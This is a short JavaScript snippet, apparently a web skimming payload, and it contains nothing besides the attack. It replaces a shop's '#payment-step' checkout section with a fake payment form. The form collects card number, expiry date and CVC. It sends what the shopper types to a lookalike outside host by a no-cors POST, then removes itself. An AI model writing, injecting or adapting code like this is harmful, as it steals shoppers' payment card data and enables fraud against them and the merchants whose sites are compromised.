// Puts a payment form of its own over the shop's and sends what is typed to itself.
var f = document.createElement('form');
f.innerHTML = '<input name="cardnumber" autocomplete="cc-number" maxlength="19"><input name="exp" placeholder="MM/YY"><input name="cvc" maxlength="4"><button>Pay now</button>';
f.onsubmit = function (e) {
  e.preventDefault();
  fetch('https://pay-secure.checkout-forms.example/g', { method: 'POST', mode: 'no-cors', body: new FormData(f) }).then(function () { f.remove(); });
};
document.querySelector('#payment-step').replaceWith(f);
